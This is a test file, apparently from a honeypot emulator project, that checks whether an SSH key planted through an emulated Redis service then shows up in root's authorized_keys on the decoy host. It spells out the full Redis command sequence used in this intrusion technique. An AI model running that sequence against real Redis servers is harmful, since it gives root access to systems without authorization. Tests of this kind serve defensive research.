import { expect, it } from 'vitest'
import { Identity } from '../../../src/config/identity.ts'
import { loadPersona } from '../../../src/config/personas.ts'
import redis from '../../../src/emulators/redis/index.ts'
import { createHosts } from '../../../src/host/hosts.ts'
import { MemoryState, noEngine, play } from '../../harness.ts'
import { Conversation } from './conversation.ts'

it('a key planted through Redis opens the same host for SSH', async () => {
  const identity = new Identity(Buffer.alloc(32, 7))
  const state = new MemoryState()
  const hosts = createHosts({ identity, engine: noEngine, state })
  const playing = await play(redis, { persona: 'debian-web', identity, state, hosts })
  const attacker = await Conversation.with(playing.port())
  const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBY0aGVyZSBpcyBubyBrZXkgaW4gaGVyZSBhdCBhbGwh x@y'
  await attacker.ask('FLUSHALL')
  await attacker.ask('SET', 'crack', `\n\n${key}\n\n`)
  await attacker.ask('CONFIG', 'SET', 'dir', '/root/.ssh')
  await attacker.ask('CONFIG', 'SET', 'dbfilename', 'authorized_keys')
  expect(await attacker.ask('SAVE')).toBe('+OK\r\n')
  const [written] = playing.events.filter((event) => event.type === 'redis.file-write-intent')
  expect(written?.data).toMatchObject({ path: '/root/.ssh/authorized_keys', written: true })
  const host = hosts.of(loadPersona('prompts', 'debian-web', identity), '127.0.0.1')
  expect(host.authorizedKeys('root')).toContain(key)
  attacker.end()
  await playing.stop()
  hosts.close()
})
